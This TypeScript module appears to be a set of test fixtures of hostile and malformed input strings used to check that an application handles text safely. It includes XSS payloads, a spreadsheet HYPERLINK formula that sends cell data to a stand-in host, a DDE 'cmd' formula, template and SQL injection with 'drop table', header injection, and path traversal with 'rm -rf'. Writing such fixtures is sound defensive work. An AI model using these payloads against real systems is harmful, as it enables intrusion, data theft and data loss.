/** In each text that somebody hostile writes, so that it is found again wherever it turns up. */
export const MARK = 'Vondtekst';

/** What people who mean harm, or who have pasted something odd, may write. Each could do something where text is not taken as text. */
export const hostileTexts = {
  'HTML that runs something': `${MARK}<script>window.__vond=1</script><img src=x onerror="window.__vond=1"><svg/onload=alert(1)><a href="javascript:window.__vond=1">x</a>"'><iframe src=//ute.example></iframe>`,
  'a formula': `=HYPERLINK("http://ute.example/?"&A1;"${MARK}")|cmd!A0`,
  'a formula after a blank': ` +${MARK}1+1`,
  'a full-width formula': `＝${MARK}1+1`,
  'a minus and an at': `-@SUM(1;1)*${MARK}`,
  'text that turns around': `${MARK} \u202egnp.exe\u2066 \u200fx\u2067`,
  'control characters': `${MARK}\u0001\u0008\u001b[31mrød\u007f\u0085\u0090 slutt`,
  'what cannot be seen': `\u200b\u200c\u200d\u2060\ufeff${MARK}\u00ad\u180e\u3164`,
  'a word without an end': `${MARK}${'W'.repeat(20_000)}`,
  'marks upon marks': `${MARK}${'e\u0301\u0316\u0489'.repeat(3000)}`,
  'templates': `{{${MARK}}} \${7*7} {{constructor.constructor('return process')()}} #{7*7} <%= 7*7 %> {page} %s %n {0}`,
  'lines of headers and calendars': `${MARK}\r\nBcc: alle@ute.example\r\nSet-Cookie: trapp_session=x\r\n\r\nEND:VEVENT\r\nBEGIN:VALARM\nATTACH:http://ute.example`,
  'a path out of the folder': `../../../../etc/${MARK}\\..\\..\\windows;rm -rf .pdf`,
  'SQL': `${MARK}'; drop table trapp_cases; -- ' or '1'='1`,
  'a prototype and JSON': `{"__proto__":{"${MARK}":1}}","x":"\\u0000`,
  'links': `${MARK} https://ute.example/x javascript:alert(1) data:text/html,<script>1</script> file:///etc/passwd vbscript:x`,
} as const;

/** What no database and no file can keep: refused wherever it is sent. */
export const unwritableTexts = {
  'the character NUL': `${MARK}\u0000slutt`,
  'half a letter': `${MARK}\ud83dslutt`,
  'the other half': `${MARK}\ude00slutt`,
} as const;
